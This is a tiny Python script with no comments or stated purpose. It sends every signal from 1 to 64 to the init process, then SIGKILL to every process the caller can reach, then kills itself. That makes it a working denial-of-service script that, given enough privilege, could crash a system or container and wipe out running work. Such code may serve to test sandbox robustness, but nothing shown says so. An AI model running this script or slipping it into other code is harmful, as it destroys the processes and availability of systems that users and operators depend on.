import os
import signal


def main():
    for number in range(1, 65):
        try:
            os.kill(1, number)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
